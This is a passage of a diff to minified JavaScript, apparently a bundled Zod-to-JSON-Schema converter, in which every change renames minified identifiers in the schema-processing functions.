 const G=a.seen.get(R);if(G.ref===null)return;const j=G.def??G.schema,J={...j},le=G.ref;if(G.ref=null,le){p(le);const he=a.
-seen.get(le),ge=he.schema;if(ge.$ref&&(a.target==="draft-07"||a.target==="draft-04"||a.target==="openapi-3.0")?(j.allOf=
-j.allOf??[],j.allOf.push(ge)):ts(j,ge),ts(j,J),R._zod.parent===le)for(const Ve in j)Ve==="$ref"||Ve==="allOf"||Ve in J||
-delete j[Ve];if(ge.$ref&&he.def)for(const Ve in j)Ve==="$ref"||Ve==="allOf"||Ve in he.def&&JSON.stringify(j[Ve])===JSON.
+seen.get(le),Ce=he.schema;if(Ce.$ref&&(a.target==="draft-07"||a.target==="draft-04"||a.target==="openapi-3.0")?(j.allOf=
+j.allOf??[],j.allOf.push(Ce)):ts(j,Ce),ts(j,J),R._zod.parent===le)for(const Ve in j)Ve==="$ref"||Ve==="allOf"||Ve in J||
+delete j[Ve];if(Ce.$ref&&he.def)for(const Ve in j)Ve==="$ref"||Ve==="allOf"||Ve in he.def&&JSON.stringify(j[Ve])===JSON.
 stringify(he.def[Ve])&&delete j[Ve]}const De=R._zod.parent;if(De&&De!==le){p(De);const he=a.seen.get(De);if(he?.schema.$ref&&
-(j.$ref=he.schema.$ref,he.def))for(const ge in j)ge==="$ref"||ge==="allOf"||ge in he.def&&JSON.stringify(j[ge])===JSON.stringify(
-he.def[ge])&&delete j[ge]}a.override({zodSchema:R,jsonSchema:j,path:G.path??[]})};if(!a.external||a.sharedEmitDoneFor!==
+(j.$ref=he.schema.$ref,he.def))for(const Ce in j)Ce==="$ref"||Ce==="allOf"||Ce in he.def&&JSON.stringify(j[Ce])===JSON.stringify(
+he.def[Ce])&&delete j[Ce]}a.override({zodSchema:R,jsonSchema:j,path:G.path??[]})};if(!a.external||a.sharedEmitDoneFor!==
 a.external){for(const R of[...a.seen.entries()].reverse())p(R[0]);if(a.target!=="openapi-3.0")for(const R of a.seen.entries())
 ai(R[1].def??R[1].schema);for(const R of a.deferred)R();if(a.intersections.length){const R=new Map;for(const G of a.seen.
 values())for(const j of[G.schema,G.def]){const J=j?.allOf;if(!Array.isArray(J))continue;const le=R.get(J);le?le.push(j):
-R.set(J,[j])}for(const G of a.intersections)for(const j of R.get(G)??[])Fo(j)}}const m={};if(a.target==="draft-2020-12"?
+R.set(J,[j])}for(const G of a.intersections)for(const j of R.get(G)??[])Po(j)}}const m={};if(a.target==="draft-2020-12"?
 m.$schema="https://json-schema.org/draft/2020-12/schema":a.target==="draft-07"?m.$schema="http://json-schema.org/draft-0\
 7/schema#":a.target==="draft-04"?m.$schema="http://json-schema.org/draft-04/schema#":a.target,a.external?.uri){const R=a.
 external.registry.get(u)?.id;if(!R)throw new Error("Schema is missing an `id` property");m.$id=a.external.uri(R)}ts(m,f.
@@ -2277,7 +2280,7 @@ defId?f.schema:f.def??f.schema);const w=a.metadataRegistry.get(u)?.id;w!==void 0
 defs??{};if(!a.external||a.sharedEmitDoneFor!==a.external)for(const R of a.seen.entries()){const G=R[1];G.def&&G.defId&&
 (G.def.id===G.defId&&delete G.def.id,(0,r.Vy)(v,G.defId,G.def))}a.external&&(a.sharedEmitDoneFor=a.external),a.external||
 Object.keys(v).length>0&&(a.target==="draft-2020-12"?m.$defs=v:m.definitions=v);try{const R=JSON.parse(JSON.stringify(m));
-return Object.defineProperty(R,"~standard",{value:{...u["~standard"],jsonSchema:{input:Hs(u,"input",a.processors),output:Hs(
+return Object.defineProperty(R,"~standard",{value:{...u["~standard"],jsonSchema:{input:zs(u,"input",a.processors),output:zs(
 u,"output",a.processors)}},enumerable:!1,writable:!1}),R}catch{throw new Error("Error converting schema to JSON.")}}function Gt(a,u){
 const f=u??{seen:new Set};if(f.seen.has(a))return!1;f.seen.add(a);const p=a._zod.def;if(p.type==="transform")return!0;if(p.
 type==="array")return Gt(p.element,f);if(p.type==="set")return Gt(p.valueType,f);if(p.type==="lazy")return Gt(p.getter(),
@@ -2286,110 +2289,110 @@ f);if(p.type==="promise"||p.type==="optional"||p.type==="nonoptional"||p.type===
 Gt(p.right,f);if(p.type==="record"||p.type==="map")return Gt(p.keyType,f)||Gt(p.valueType,f);if(p.type==="pipe")return a.
 _zod.traits.has("$ZodCodec")?!0:Gt(p.in,f)||Gt(p.out,f);if(p.type==="object"){for(const m in p.shape)if(Gt(p.shape[m],f))
 return!0;return!1}if(p.type==="union"){for(const m of p.options)if(Gt(m,f))return!0;return!1}if(p.type==="tuple"){for(const m of p.
-items)if(Gt(m,f))return!0;return!!(p.rest&&Gt(p.rest,f))}return!1}const pu=(a,u={})=>f=>{const p=hr({...f,processors:u});
-return _t(a,p),oi(p,a),di(p,a)},Hs=(a,u,f={})=>p=>{const{libraryOptions:m,target:w}=p??{},v=hr({...m??{},target:w,io:u,processors:f});
+items)if(Gt(m,f))return!0;return!!(p.rest&&Gt(p.rest,f))}return!1}const mu=(a,u={})=>f=>{const p=hr({...f,processors:u});
+return _t(a,p),oi(p,a),di(p,a)},zs=(a,u,f={})=>p=>{const{libraryOptions:m,target:w}=p??{},v=hr({...m??{},target:w,io:u,processors:f});
 return _t(a,v),oi(v,a),di(v,a)},ns=(a,u,f)=>{(a[u]===void 0||f>a[u])&&(a[u]=f)},Wn=(a,u,f)=>{(a[u]===void 0||f<a[u])&&(a[u]=
-f)},pr=(a,u)=>{ns(a,"minimum",u),Wn(a,"maximum",u)},Po=(a,u)=>{a.multipleOf??(a.multipleOf=[]),a.multipleOf.includes(u)||
-a.multipleOf.push(u)},Lo=(a,u)=>{a.patterns??(a.patterns=new Set),a.patterns.add(u)},mr=(a,u)=>{a.mime=a.mime?a.mime.filter(
+f)},pr=(a,u)=>{ns(a,"minimum",u),Wn(a,"maximum",u)},Lo=(a,u)=>{a.multipleOf??(a.multipleOf=[]),a.multipleOf.includes(u)||
+a.multipleOf.push(u)},jo=(a,u)=>{a.patterns??(a.patterns=new Set),a.patterns.add(u)},mr=(a,u)=>{a.mime=a.mime?a.mime.filter(
 f=>u.includes(f)):[...u]},Bi=(a,u)=>{a.format=u,u.includes("int")&&(a.isInt=!0)},b=(a,u)=>ns(a,"minimum",u.minimum),O=(a,u)=>Wn(
 a,"maximum",u.maximum),Y=a=>(u,f)=>{Bi(u,f.format);const[p,m]=a[f.format];ns(u,"minimum",p),Wn(u,"maximum",m)},me={greater_than:(a,u)=>ns(
 a,u.inclusive?"minimum":"exclusiveMinimum",u.value),less_than:(a,u)=>Wn(a,u.inclusive?"maximum":"exclusiveMaximum",u.value),
-multiple_of:(a,u)=>Po(a,u.value),number_format:Y(r.zH),bigint_format:Y(r.NR),min_length:b,max_length:O,length_equals:(a,u)=>pr(
-a,u.length),min_size:b,max_size:O,size_equals:(a,u)=>pr(a,u.size),string_format:(a,u)=>{Bi(a,u.format),u.pattern&&Lo(a,u.
+multiple_of:(a,u)=>Lo(a,u.value),number_format:Y(r.zH),bigint_format:Y(r.NR),min_length:b,max_length:O,length_equals:(a,u)=>pr(
+a,u.length),min_size:b,max_size:O,size_equals:(a,u)=>pr(a,u.size),string_format:(a,u)=>{Bi(a,u.format),u.pattern&&jo(a,u.
 pattern),(u.format==="base64"||u.format==="base64url")&&(a.contentEncoding=u.format),(u.local||u.precision===-1)&&(a.laxFormat=
 !0)},mime_type:(a,u)=>mr(a,u.mime)};function Le(a){const u={},f=a._zod.def,p=a._zod.traits.has("$ZodCheck")?[a,...f.checks??
 []]:f.checks??[];for(const w of p)me[w._zod.def.check]?.(u,w._zod.def);const m=a._zod.bag;m.minimum!==void 0&&ns(u,"mini\
 mum",m.minimum),m.exclusiveMinimum!==void 0&&ns(u,"exclusiveMinimum",m.exclusiveMinimum),m.maximum!==void 0&&Wn(u,"maxim\
-um",m.maximum),m.exclusiveMaximum!==void 0&&Wn(u,"exclusiveMaximum",m.exclusiveMaximum),m.multipleOf!==void 0&&Po(u,m.multipleOf),
+um",m.maximum),m.exclusiveMaximum!==void 0&&Wn(u,"exclusiveMaximum",m.exclusiveMaximum),m.multipleOf!==void 0&&Lo(u,m.multipleOf),
 m.format!==void 0&&(u.format??(u.format=m.format),m.format.includes("int")&&(u.isInt=!0)),m.mime&&mr(u,m.mime);for(const w of m.
-patterns??[])Lo(u,w);return u}const tn={guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},un=new Map(
-[[be,Z.K3],[_e,Z.r0]]),zs=a=>un.get(a)??a,Us=(a,u,f,p)=>{const m=f;m.type="string";const{minimum:w,maximum:v,format:R,patterns:G,
+patterns??[])jo(u,w);return u}const Wt={guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},un=new Map(
+[[be,Z.K3],[_e,Z.r0]]),Us=a=>un.get(a)??a,Js=(a,u,f,p)=>{const m=f;m.type="string";const{minimum:w,maximum:v,format:R,patterns:G,
 contentEncoding:j,laxFormat:J}=Le(a);if(typeof w=="number"&&(m.minLength=w),typeof v=="number"&&(m.maxLength=v),R&&(m.format=
-tn[R]??R,m.format===""&&delete m.format,(R==="time"||J)&&delete m.format),j&&(m.contentEncoding=j),G&&G.size>0){const le=[
-...G].map(zs);le.length===1?m.pattern=le[0].source:le.length>1&&(m.allOf=[...le.map(De=>({...u.target==="draft-07"||u.target===
+Wt[R]??R,m.format===""&&delete m.format,(R==="time"||J)&&delete m.format),j&&(m.contentEncoding=j),G&&G.size>0){const le=[
+...G].map(Us);le.length===1?m.pattern=le[0].source:le.length>1&&(m.allOf=[...le.map(De=>({...u.target==="draft-07"||u.target===
 "draft-04"||u.target==="openapi-3.0"?{type:"string"}:{},pattern:De.source}))])}},fi=(a,u,f,p)=>{const m=f,{minimum:w,maximum:v,
 multipleOf:R,exclusiveMaximum:G,exclusiveMinimum:j,isInt:J}=Le(a);m.type=J?"integer":"number";const le=typeof j=="number"&&
 j>=(w??Number.NEGATIVE_INFINITY),De=typeof G=="number"&&G<=(v??Number.POSITIVE_INFINITY),he=u.target==="draft-04"||u.target===
 "openapi-3.0";if(le?he?(m.minimum=j,m.exclusiveMinimum=!0):m.exclusiveMinimum=j:typeof w=="number"&&(m.minimum=w),De?he?
-(m.maximum=G,m.exclusiveMaximum=!0):m.exclusiveMaximum=G:typeof v=="number"&&(m.maximum=v),R){const ge=new Set;for(const Et of R)
-Number.isFinite(Et)&&Et!==0?ge.add(Math.abs(Et)):Nt(a,u,m,p,`A multipleOf divisor of ${Et} cannot be represented in JSON\
- Schema`);const[Ye,...Ve]=ge;Ye!==void 0&&(m.multipleOf=Ye),Ve.length&&(m.allOf=[...m.allOf??[],...Ve.map(Et=>({multipleOf:Et}))])}},
-hi=(a,u,f,p)=>{f.type="boolean"},jo=(a,u,f,p)=>{Nt(a,u,f,p,"BigInt cannot be represented in JSON Schema")},lg=(a,u,f,p)=>{
-Nt(a,u,f,p,"Symbols cannot be represented in JSON Schema")},dg=(a,u,f,p)=>{u.target==="openapi-3.0"?(f.type="string",f.nullable=
-!0,f.enum=[null]):f.type="null"},Bg=(a,u,f,p)=>{Nt(a,u,f,p,"Undefined cannot be represented in JSON Schema")},fg=(a,u,f,p)=>{
-Nt(a,u,f,p,"Void cannot be represented in JSON Schema")},mu=(a,u,f,p)=>{f.not={}},hg=(a,u,f,p)=>{},gu=(a,u,f,p)=>{},Cu=(a,u,f,p)=>{
-Nt(a,u,f,p,"Date cannot be represented in JSON Schema")},yu=(a,u,f,p)=>{const m=a._zod.def,w=(0,r.w5)(m.entries);if(w.length===
+(m.maximum=G,m.exclusiveMaximum=!0):m.exclusiveMaximum=G:typeof v=="number"&&(m.maximum=v),R){const Ce=new Set;for(const Et of R)
+Number.isFinite(Et)&&Et!==0?Ce.add(Math.abs(Et)):Nt(a,u,m,p,`A multipleOf divisor of ${Et} cannot be represented in JSON\
+ Schema`);const[Ye,...Ve]=Ce;Ye!==void 0&&(m.multipleOf=Ye),Ve.length&&(m.allOf=[...m.allOf??[],...Ve.map(Et=>({multipleOf:Et}))])}},
+hi=(a,u,f,p)=>{f.type="boolean"},Mo=(a,u,f,p)=>{Nt(a,u,f,p,"BigInt cannot be represented in JSON Schema")},pg=(a,u,f,p)=>{
+Nt(a,u,f,p,"Symbols cannot be represented in JSON Schema")},mg=(a,u,f,p)=>{u.target==="openapi-3.0"?(f.type="string",f.nullable=
+!0,f.enum=[null]):f.type="null"},gg=(a,u,f,p)=>{Nt(a,u,f,p,"Undefined cannot be represented in JSON Schema")},Cg=(a,u,f,p)=>{
+Nt(a,u,f,p,"Void cannot be represented in JSON Schema")},gu=(a,u,f,p)=>{f.not={}},yg=(a,u,f,p)=>{},Cu=(a,u,f,p)=>{},yu=(a,u,f,p)=>{
+Nt(a,u,f,p,"Date cannot be represented in JSON Schema")},wu=(a,u,f,p)=>{const m=a._zod.def,w=(0,r.w5)(m.entries);if(w.length===
 0){f.not={};return}w.every(v=>typeof v=="number")&&(f.type="number"),w.every(v=>typeof v=="string")&&(f.type="string"),f.
-enum=w},wu=(a,u,f,p)=>{const m=a._zod.def;if(m.values.length===0){f.not={};return}const w=[];for(const v of m.values)if(v===
+enum=w},bu=(a,u,f,p)=>{const m=a._zod.def;if(m.values.length===0){f.not={};return}const w=[];for(const v of m.values)if(v===
 void 0){if(Nt(a,u,f,p,"Literal `undefined` cannot be represented in JSON Schema"))return}else if(typeof v=="bigint"){if(Nt(
 a,u,f,p,"BigInt literals cannot be represented in JSON Schema"))return;w.push(Number(v))}else w.push(v);if(w.length!==0)
 if(w.length===1){const v=w[0];f.type=v===null?"null":typeof v,u.target==="draft-04"||u.target==="openapi-3.0"?f.enum=[v]:
 f.const=v}else w.every(v=>typeof v=="number")&&(f.type="number"),w.every(v=>typeof v=="string")&&(f.type="string"),w.every(
-v=>typeof v=="boolean")&&(f.type="boolean"),w.every(v=>v===null)&&(f.type="null"),f.enum=w},pg=(a,u,f,p)=>{Nt(a,u,f,p,"N\
-aN cannot be represented in JSON Schema")},mg=(a,u,f,p)=>{const m=f,w=a._zod.pattern;if(!w)throw new Error("Pattern not \
-found in template literal");m.type="string",m.pattern=w.source},gg=(a,u,f,p)=>{const m=f;m.type="string",m.format="binar\
+v=>typeof v=="boolean")&&(f.type="boolean"),w.every(v=>v===null)&&(f.type="null"),f.enum=w},wg=(a,u,f,p)=>{Nt(a,u,f,p,"N\
+aN cannot be represented in JSON Schema")},bg=(a,u,f,p)=>{const m=f,w=a._zod.pattern;if(!w)throw new Error("Pattern not \
+found in template literal");m.type="string",m.pattern=w.source},_g=(a,u,f,p)=>{const m=f;m.type="string",m.format="binar\
 y",m.contentEncoding="binary";const{minimum:w,maximum:v,mime:R}=Le(a);w!==void 0&&(m.minLength=w),v!==void 0&&(m.maxLength=
-v),R&&(R.length===0?m.not={}:R.length===1?m.contentMediaType=R[0]:m.anyOf=R.map(G=>({contentMediaType:G})))},Cg=(a,u,f,p)=>{
-f.type="boolean"},bu=(a,u,f,p)=>{Nt(a,u,f,p,"Custom types cannot be represented in JSON Schema")},yg=(a,u,f,p)=>{Nt(a,u,
-f,p,"Function types cannot be represented in JSON Schema")},_u=(a,u,f,p)=>{Nt(a,u,f,p,"Transforms cannot be represented \
-in JSON Schema")},wg=(a,u,f,p)=>{Nt(a,u,f,p,"Map cannot be represented in JSON Schema")},bg=(a,u,f,p)=>{Nt(a,u,f,p,"Set \
-cannot be represented in JSON Schema")},Eu=(a,u,f,p)=>{const m=f,w=a._zod.def,{minimum:v,maximum:R}=Le(a);typeof v=="num\
+v),R&&(R.length===0?m.not={}:R.length===1?m.contentMediaType=R[0]:m.anyOf=R.map(G=>({contentMediaType:G})))},Eg=(a,u,f,p)=>{
+f.type="boolean"},_u=(a,u,f,p)=>{Nt(a,u,f,p,"Custom types cannot be represented in JSON Schema")},vg=(a,u,f,p)=>{Nt(a,u,
+f,p,"Function types cannot be represented in JSON Schema")},Eu=(a,u,f,p)=>{Nt(a,u,f,p,"Transforms cannot be represented \
+in JSON Schema")},kg=(a,u,f,p)=>{Nt(a,u,f,p,"Map cannot be represented in JSON Schema")},Dg=(a,u,f,p)=>{Nt(a,u,f,p,"Set \
+cannot be represented in JSON Schema")},vu=(a,u,f,p)=>{const m=f,w=a._zod.def,{minimum:v,maximum:R}=Le(a);typeof v=="num\
 ber"&&(m.minItems=v),typeof R=="number"&&(m.maxItems=R),m.type="array",m.items=_t(w.element,u,{...p,path:[...p.path,"ite\
 ms"]})};function gr(a){const u=a._zod.def;return u.type==="pipe"&&u.in._zod.traits.has("$ZodTransform")?gr(u.out):u.type===
-"catch"?gr(u.innerType):a._zod.optin}const vu=(a,u,f,p)=>{const m=f,w=a._zod.def,v=w.shape;if(Object.getOwnPropertySymbols(
+"catch"?gr(u.innerType):a._zod.optin}const ku=(a,u,f,p)=>{const m=f,w=a._zod.def,v=w.shape;if(Object.getOwnPropertySymbols(
 v).length&&Nt(a,u,m,p,"Symbol keys cannot be represented in JSON Schema"))return;m.type="object",m.properties={};for(const j in v)
 (0,r.Vy)(m.properties,j,_t(v[j],u,{...p,path:[...p.path,"properties",j]}));const G=[];for(const j of Object.keys(v)){const J=w.
 shape[j];(u.io==="input"?gr(J)===void 0:J._zod.optout===void 0)&&G.push(j)}G.length>0&&(m.required=G),w.catchall?._zod.def.
 type==="never"?m.additionalProperties=!1:w.catchall?w.catchall&&(m.additionalProperties=_t(w.catchall,u,{...p,path:[...p.
-path,"additionalProperties"]})):u.io==="output"&&(m.additionalProperties=!1)},ku=(a,u,f,p)=>{const m=a._zod.def,w=m.inclusive===
-!1,v=m.options.map((R,G)=>_t(R,u,{...p,path:[...p.path,w?"oneOf":"anyOf",G]}));w?f.oneOf=v:f.anyOf=v},Du=(a,u,f,p)=>{const m=a.
+path,"additionalProperties"]})):u.io==="output"&&(m.additionalProperties=!1)},Du=(a,u,f,p)=>{const m=a._zod.def,w=m.inclusive===
+!1,v=m.options.map((R,G)=>_t(R,u,{...p,path:[...p.path,w?"oneOf":"anyOf",G]}));w?f.oneOf=v:f.anyOf=v},xu=(a,u,f,p)=>{const m=a.
 _zod.def,w=_t(m.left,u,{...p,path:[...p.path,"allOf",0]}),v=_t(m.right,u,{...p,path:[...p.path,"allOf",1]}),R=j=>"allOf"in
-j&&Object.keys(j).length===1,G=[...R(w)?w.allOf:[w],...R(v)?v.allOf:[v]];f.allOf=G,u.intersections.push(G)},xu=(a,u,f,p)=>{
+j&&Object.keys(j).length===1,G=[...R(w)?w.allOf:[w],...R(v)?v.allOf:[v]];f.allOf=G,u.intersections.push(G)},Ou=(a,u,f,p)=>{
 const m=f,w=a._zod.def;m.type="array";const v=u.target==="draft-2020-12"?"prefixItems":"items",R=u.target==="draft-2020-\
 12"||u.target==="openapi-3.0"?"items":"additionalItems",G=w.items.map((Ye,Ve)=>_t(Ye,u,{...p,path:[...p.path,v,Ve]})),j=w.
 rest?_t(w.rest,u,{...p,path:[...p.path,R,...u.target==="openapi-3.0"?[w.items.length]:[]]}):null;let J=w.items.length;for(;J>
 0;){const Ye=w.items[J-1];if(!(u.io==="input"?gr(Ye)!==void 0:Ye._zod.optout==="optional"))break;J--}const le=w.items.length,
 De=!w.rest;u.target==="draft-2020-12"?(m.prefixItems=G,De?m.items=!1:j&&(m.items=j),J>0&&(m.minItems=J),De&&(m.maxItems=
 le)):u.target==="openapi-3.0"?(m.items={anyOf:G},j&&m.items.anyOf.push(j),J>0&&(m.minItems=J),De&&(m.maxItems=le)):(m.items=
-G,De?m.additionalItems=!1:j&&(m.additionalItems=j),J>0&&(m.minItems=J),De&&(m.maxItems=le));const{minimum:he,maximum:ge}=Le(
-a);typeof he=="number"&&(m.minItems=he),typeof ge=="number"&&(m.maxItems=ge)};function Mo(a,u,f){if(u.$ref){if(f.has(u))
-return u;f.add(u);const ge=a.get(u)?.def;if(!ge)return u;const Ye=Mo(a,ge,f);return Ye===ge?u:Ye}for(const ge of["anyOf",
-"oneOf"]){const Ye=u[ge];if(!Array.isArray(Ye))continue;const Ve=Ye.map(Et=>Mo(a,Et,f));Ve.some((Et,Tn)=>Et!==Ye[Tn])&&(u=
-{...u,[ge]:Ve})}const p=Array.isArray(u.type)?u.type:[u.type],m=!p.includes("string")&&p.some(ge=>ge==="number"||ge==="i\
-nteger"),w=u.enum??(u.const!==void 0?[u.const]:void 0);if(!m&&!w?.some(ge=>typeof ge=="number"))return u;const{minimum:v,
+G,De?m.additionalItems=!1:j&&(m.additionalItems=j),J>0&&(m.minItems=J),De&&(m.maxItems=le));const{minimum:he,maximum:Ce}=Le(
+a);typeof he=="number"&&(m.minItems=he),typeof Ce=="number"&&(m.maxItems=Ce)};function Go(a,u,f){if(u.$ref){if(f.has(u))
+return u;f.add(u);const Ce=a.get(u)?.def;if(!Ce)return u;const Ye=Go(a,Ce,f);return Ye===Ce?u:Ye}for(const Ce of["anyOf",
+"oneOf"]){const Ye=u[Ce];if(!Array.isArray(Ye))continue;const Ve=Ye.map(Et=>Go(a,Et,f));Ve.some((Et,In)=>Et!==Ye[In])&&(u=
+{...u,[Ce]:Ve})}const p=Array.isArray(u.type)?u.type:[u.type],m=!p.includes("string")&&p.some(Ce=>Ce==="number"||Ce==="i\
+nteger"),w=u.enum??(u.const!==void 0?[u.const]:void 0);if(!m&&!w?.some(Ce=>typeof Ce=="number"))return u;const{minimum:v,
 maximum:R,exclusiveMinimum:G,exclusiveMaximum:j,multipleOf:J,format:le,id:De,...he}=u;return he.enum?he.enum=he.enum.map(
-ge=>typeof ge=="number"?String(ge):ge):typeof he.const=="number"&&(he.const=String(he.const)),m&&(he.type="string",w||(he.
-pattern=(p.includes("number")?Z.ai:Z.nd).source)),he}const Go=new WeakMap;function _g(a){const u=new Map;for(const p of a.
-seen.values())p.def&&!u.has(p.schema)&&u.set(p.schema,p);const f=new Map;for(const p of Go.get(a)??[]){const m=a.seen.get(
-p),w=(m?.def??m?.schema)?.propertyNames;if(!w||w===!0||f.has(w))continue;const v=Mo(u,w,new Set);v!==w&&f.set(w,v)}if(f.
+Ce=>typeof Ce=="number"?String(Ce):Ce):typeof he.const=="number"&&(he.const=String(he.const)),m&&(he.type="string",w||(he.
+pattern=(p.includes("number")?Z.ai:Z.nd).source)),he}const Ho=new WeakMap;function xg(a){const u=new Map;for(const p of a.
+seen.values())p.def&&!u.has(p.schema)&&u.set(p.schema,p);const f=new Map;for(const p of Ho.get(a)??[]){const m=a.seen.get(
+p),w=(m?.def??m?.schema)?.propertyNames;if(!w||w===!0||f.has(w))continue;const v=Go(u,w,new Set);v!==w&&f.set(w,v)}if(f.
 size)for(const p of a.seen.values())for(const m of[p.schema,p.def]){const w=m&&f.get(m.propertyNames);w&&(m.propertyNames=
-w)}}const Ou=(a,u,f,p)=>{const m=f,w=a._zod.def;m.type="object";const v=w.keyType,R=Le(v).patterns;if(w.mode==="loose"&&
+w)}}const Au=(a,u,f,p)=>{const m=f,w=a._zod.def;m.type="object";const v=w.keyType,R=Le(v).patterns;if(w.mode==="loose"&&
 R&&R.size>0){const J=_t(w.valueType,u,{...p,path:[...p.path,"patternProperties","*"]});m.patternProperties={};for(const le of R)
-(0,r.Vy)(m.patternProperties,zs(le).source,J)}else{if(u.target==="draft-07"||u.target==="draft-2020-12"){m.propertyNames=
-_t(w.keyType,u,{...p,path:[...p.path,"propertyNames"]});let J=Go.get(u);J||(J=[],Go.set(u,J),u.deferred.push(()=>_g(u))),
+(0,r.Vy)(m.patternProperties,Us(le).source,J)}else{if(u.target==="draft-07"||u.target==="draft-2020-12"){m.propertyNames=
+_t(w.keyType,u,{...p,path:[...p.path,"propertyNames"]});let J=Ho.get(u);J||(J=[],Ho.set(u,J),u.deferred.push(()=>xg(u))),
 J.push(a)}m.additionalProperties=_t(w.valueType,u,{...p,path:[...p.path,"additionalProperties"]})}const G=v._zod.values,
 j=u.io==="input"&&gr(w.valueType)!==void 0;if(G&&!w.partial&&!j){const J=[...G].filter(le=>typeof le=="string"||typeof le==
-"number");J.length>0&&(m.required=J.map(String))}},Au=(a,u,f,p)=>{const m=a._zod.def,w=_t(m.innerType,u,p),v=u.seen.get(
-a);u.target==="openapi-3.0"?(v.ref=m.innerType,f.nullable=!0):f.anyOf=[w,{type:"null"}]},Su=(a,u,f,p)=>{const m=a._zod.def;
-_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Ho=Symbol();function Tu(a,u,f,p,m){let w=!1;const v=JSON.stringify(
+"number");J.length>0&&(m.required=J.map(String))}},Su=(a,u,f,p)=>{const m=a._zod.def,w=_t(m.innerType,u,p),v=u.seen.get(
+a);u.target==="openapi-3.0"?(v.ref=m.innerType,f.nullable=!0):f.anyOf=[w,{type:"null"}]},Tu=(a,u,f,p)=>{const m=a._zod.def;
+_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},zo=Symbol();function Iu(a,u,f,p,m){let w=!1;const v=JSON.stringify(
 a,(R,G)=>typeof G!="bigint"?G:(w=!0,null));return w?(Nt(u,f,p,m,"BigInt defaults cannot be represented in JSON Schema"),
-Ho):JSON.parse(v)}const Iu=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;const v=Tu(
-m.defaultValue,a,u,f,p);v!==Ho&&(f.default=v)},$u=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(
-a);if(w.ref=m.innerType,u.io!=="input")return;const v=Tu(m.defaultValue,a,u,f,p);v!==Ho&&(f._prefault=v)},Ru=(a,u,f,p)=>{
+zo):JSON.parse(v)}const $u=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;const v=Iu(
+m.defaultValue,a,u,f,p);v!==zo&&(f.default=v)},Ru=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(
+a);if(w.ref=m.innerType,u.io!=="input")return;const v=Iu(m.defaultValue,a,u,f,p);v!==zo&&(f._prefault=v)},Nu=(a,u,f,p)=>{
 const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType;let v;try{v=m.catchValue(void 0)}catch{Nt(
-a,u,f,p,"Dynamic catch values are not supported in JSON Schema");return}f.default=v},Nu=(a,u,f,p)=>{const m=a._zod.def,w=m.
-in._zod.traits.has("$ZodTransform"),v=u.io==="input"?w?m.out:m.in:m.out;_t(v,u,p);const R=u.seen.get(a);R.ref=v},Fu=(a,u,f,p)=>{
-const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType,f.readOnly=!0},Eg=(a,u,f,p)=>{const m=a._zod.
-def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},zo=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.
-seen.get(a);w.ref=m.innerType},Pu={string:Us,number:fi,boolean:hi,bigint:jo,symbol:lg,null:dg,undefined:Bg,void:fg,never:mu,
-any:hg,unknown:gu,date:Cu,enum:yu,literal:wu,nan:pg,template_literal:mg,file:gg,success:Cg,custom:bu,function:yg,transform:_u,
-map:wg,set:bg,array:Eu,object:vu,union:ku,intersection:Du,tuple:xu,record:Ou,nullable:Au,nonoptional:Su,default:Iu,prefault:$u,
-catch:Ru,pipe:Nu,readonly:Fu,promise:Eg,optional:zo,lazy:(a,u,f,p)=>{const m=a._zod.innerType;_t(m,u,p);const w=u.seen.get(
-a);w.ref=m}};function N1(a,u){if("_idmap"in a){const p=a,m=initializeContext({...u,processors:Pu}),w={};for(const G of p.
+a,u,f,p,"Dynamic catch values are not supported in JSON Schema");return}f.default=v},Fu=(a,u,f,p)=>{const m=a._zod.def,w=m.
+in._zod.traits.has("$ZodTransform"),v=u.io==="input"?w?m.out:m.in:m.out;_t(v,u,p);const R=u.seen.get(a);R.ref=v},Pu=(a,u,f,p)=>{
+const m=a._zod.def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType,f.readOnly=!0},Og=(a,u,f,p)=>{const m=a._zod.
+def;_t(m.innerType,u,p);const w=u.seen.get(a);w.ref=m.innerType},Uo=(a,u,f,p)=>{const m=a._zod.def;_t(m.innerType,u,p);const w=u.
+seen.get(a);w.ref=m.innerType},Lu={string:Js,number:fi,boolean:hi,bigint:Mo,symbol:pg,null:mg,undefined:gg,void:Cg,never:gu,
+any:yg,unknown:Cu,date:yu,enum:wu,literal:bu,nan:wg,template_literal:bg,file:_g,success:Eg,custom:_u,function:vg,transform:Eu,
+map:kg,set:Dg,array:vu,object:ku,union:Du,intersection:xu,tuple:Ou,record:Au,nullable:Su,nonoptional:Tu,default:$u,prefault:Ru,
+catch:Nu,pipe:Fu,readonly:Pu,promise:Og,optional:Uo,lazy:(a,u,f,p)=>{const m=a._zod.innerType;_t(m,u,p);const w=u.seen.get(
+a);w.ref=m}};function W1(a,u){if("_idmap"in a){const p=a,m=initializeContext({...u,processors:Lu}),w={};for(const G of p.
 _idmap.entries()){const[j,J]=G;processSchema(J,m)}const v={},R={registry:p,uri:u?.uri,defs:w};m.external=R;for(const G of p.
 _idmap.entries()){const[j,J]=G;extractDefs(m,J),assignProp(v,j,finalize(m,J))}if(Object.keys(w).length>0){const G=m.target===
-"draft-2020-12"?"$defs":"definitions";v.__shared={[G]:w}}return{schemas:v}}const f=initializeContext({...u,processors:Pu});
-return processSchema(a,f),extractDefs(f,a),finalize(f,a)}const vg=()=>{const a={string:{unit:"characters",verb:"to have"},
+"draft-2020-12"?"$defs":"definitions";v.__shared={[G]:w}}return{schemas:v}}const f=initializeContext({...u,processors:Lu});
+return processSchema(a,f),extractDefs(f,a),finalize(f,a)}const Ag=()=>{const a={string:{unit:"characters",verb:"to have"},
